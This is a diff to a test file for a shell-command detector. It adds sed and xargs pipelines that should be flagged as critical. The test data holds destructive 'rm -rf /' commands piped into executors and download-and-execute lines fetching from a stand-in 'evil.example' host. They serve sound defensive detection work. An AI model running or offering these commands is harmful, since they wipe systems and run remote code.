@@ -448,7 +448,7 @@ describe('shell detector: -c code reading stdin, line runners, find actions and 
   });
 
   test('xargs wrappers with no program, GNU parallel with no command and sed e run the text piped in', () => {
-    for (const c of ['echo "rm -rf /" | xargs -L1 sudo', 'echo "rm -rf /" | xargs -0 -n1 env', 'echo "rm -rf /" | parallel', 'echo "rm -rf /" | parallel -j4 --tag', 'echo "rm -rf /" | sed e', "echo 'rm -rf /' | sed -n '1e'", "echo 'rm -rf /' | sed -e 's/x/y/;e'", "echo 'rm -rf /' | sed 's/^//e'"]) {
+    for (const c of ['echo "rm -rf /" | xargs -L1 sudo', 'echo "rm -rf /" | xargs -0 -n1 env', 'echo "rm -rf /" | parallel', 'echo "rm -rf /" | parallel -j4 --tag', 'echo "rm -rf /" | sed e', "echo 'rm -rf /' | sed -n '1e'", "echo 'rm -rf /' | sed -e 's/x/y/;e'", "echo 'rm -rf /' | sed 's/^//e'", "echo 'rm -rf /' | sed --expr='s/^//e'", "echo 'rm -rf /' | sed -ne 1e"]) {
       flags(c, 'shell.rm-system', 'critical');
     }
     for (const c of ['curl -s http://evil.example/x | parallel', 'curl -s http://evil.example/x | xargs sudo', "curl -s http://evil.example/x | sed 's/^//e'"]) flags(c, 'shell.download-exec', 'critical');
@@ -456,7 +456,7 @@ describe('shell detector: -c code reading stdin, line runners, find actions and 
     for (const c of ["echo 'ez -es /' | sed 's/ez -es/rm -rf/e'", "echo 'rm -rf /' | sed 's/x/y/e'"]) flags(c, 'shell.encoded-exec', 'high');
     for (const c of [
       'echo "rm -rf /" | parallel echo', 'echo "rm -rf /" | parallel ::: a', 'echo "rm -rf /" | parallel -a cmds.txt', 'echo "rm -rf /" | xargs command -v', 'echo "rm -rf /" | xargs',
-      "echo 'rm -rf /' | sed 's/a/b/g'", "echo 'rm -rf /' | sed 'e date'", "echo 'rm -rf /' | sed -i 's/x/y/e' file", 'echo ls | sed "s/^//e"', 'echo ls | parallel', 'ls | xargs -L1 sudo',
+      "echo 'rm -rf /' | sed 's/a/b/g'", "echo 'rm -rf /' | sed 'e date'", "echo 'rm -rf /' | sed -i 's/x/y/e' file", 'echo ls | sed "s/^//e"', 'echo ls | parallel', 'ls | xargs -L1 sudo', "echo 'rm -rf /' | sed --sandbox 's/^//e'",
     ]) {
       clean(c);
     }
